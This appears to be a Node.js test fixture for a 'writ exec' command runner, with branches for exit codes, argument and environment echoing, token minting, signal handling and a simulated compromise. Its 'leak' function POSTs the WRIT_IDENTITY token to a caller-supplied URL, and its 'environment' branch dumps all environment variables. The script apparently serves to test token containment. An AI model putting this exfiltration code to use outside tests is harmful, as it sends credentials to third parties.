// A command that `writ exec` runs: `node child.mjs <what to do> ...`.
import { readFileSync } from 'node:fs'
import { createClient } from '@writ/client'
import { readIdentity } from '@writ/pipeline'

const [, , act, ...more] = process.argv
const { WRIT_AUTHORITY_URL: url, WRIT_PUBLIC_KEY: keys } = process.env
const say = (value) => console.log(JSON.stringify(value))
/** Hands the token to somebody else, as a compromised command would. */
const leak = (thief) => fetch(thief, { method: 'POST', body: process.env.WRIT_IDENTITY })

if (act === 'exit') process.exitCode = Number(more[0])
else if (act === 'arguments') say(more)
else if (act === 'environment')
  say({ environment: process.env, arguments: readFileSync(`/proc/${process.ppid}/cmdline`, 'utf8') })
else if (act === 'print') console.log(`it is ${process.env.WRIT_IDENTITY}`)
else if (act === 'echo') process.stdin.pipe(process.stdout)
else if (act === 'mint') {
  const identity = readIdentity()
  const client = createClient({ url, keys, identity: () => identity })
  say((await client.mint({ target: 'reports', operation: 'write' })).subject)
  client.close()
} else if (act === 'leak') await leak(more[0])
else if (act === 'stay') {
  // Ends at the second signal, or a moment after the first one.
  const heard = []
  for (const signal of ['SIGTERM', 'SIGINT', 'SIGHUP', 'SIGUSR1', 'SIGUSR2']) {
    process.on(signal, () => {
      heard.push(signal)
      setTimeout(() => {
        say({ heard })
        process.exit(3)
      }, 200)
    })
  }
  if (more[0] !== undefined) await leak(more[0])
  say({ ready: process.pid })
  setInterval(() => {}, 1000)
} else if (act === 'die') {
  if (more[0] !== undefined) await leak(more[0])
  process.kill(process.pid, 'SIGKILL')
}
